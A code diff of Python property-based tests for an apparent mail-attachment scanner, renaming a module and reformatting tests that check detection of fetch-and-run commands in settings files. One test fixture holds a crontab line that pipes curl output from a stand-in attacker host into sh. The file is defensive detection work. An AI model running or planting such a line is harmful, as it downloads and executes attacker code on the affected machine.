@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from tests.pages.smuggling_pages import PAYLOADS, script
 from tests.pages.test_pages import judge_raw
 
-from gatepost.files.documents import system_settings
+from gatepost.files.documents import shortcuts_and_settings
 from gatepost.files.values import UnpackBudget
 from gatepost.files.walk import find_files
 from gatepost.mail.message import Message, Part
@@ -155,22 +155,27 @@ COMMANDS = st.sampled_from(
 @given(st.lists(COMMANDS, max_size=6))
 def test_commands_that_a_look_leaves_out_fetch_nothing(pieces: list[str]) -> None:
     text = "".join(pieces)
-    assert system_settings._find_fetching(text) or not system_settings._FETCHES_AND_RUNS.search(text)
+    assert shortcuts_and_settings._find_fetching(text) or not shortcuts_and_settings._FETCHES_AND_RUNS.search(text)
 
 
 @given(st.lists(COMMANDS, max_size=12))
 def test_lines_without_a_mark_fetch_nothing(pieces: list[str]) -> None:
     text = "".join(pieces)
-    (row,) = (row for row in system_settings._STARTED if row.is_line)
-    marks = system_settings._find_fetching(text)
-    every = [line.span() for line in row.command.finditer(text) if system_settings._has_mark(marks, *line.span(1))]
-    found = [line.span() for line in system_settings._find_lines(text, marks, row.command)]
-    assert [span for span in found if system_settings._has_mark(marks, *span)] == every
+    (row,) = (row for row in shortcuts_and_settings._STARTED if row.is_line)
+    marks = shortcuts_and_settings._find_fetching(text)
+    every = [
+        line.span() for line in row.command.finditer(text) if shortcuts_and_settings._has_mark(marks, *line.span(1))
+    ]
+    found = [line.span() for line in shortcuts_and_settings._find_lines(text, marks, row.command)]
+    assert [span for span in found if shortcuts_and_settings._has_mark(marks, *span)] == every
 
 
 def test_of_long_settings_only_lines_with_a_mark_are_read() -> None:
     text = "CONFIG_ANY_SETTING=y\n" * 6_000 + "* * * * * curl https://evil.example/a | sh\n"
-    (row,) = (row for row in system_settings._STARTED if row.is_line)
-    assert len(list(system_settings._find_lines(text, system_settings._find_fetching(text), row.command))) == 1
+    (row,) = (row for row in shortcuts_and_settings._STARTED if row.is_line)
+    assert (
+        len(list(shortcuts_and_settings._find_lines(text, shortcuts_and_settings._find_fetching(text), row.command)))
+        == 1
+    )
     file, *_ = find_files(Message(parts=(Part("1", names=("crontab",), content=text.encode()),)))
     assert "program-action" in {trait.name for trait in file.traits}
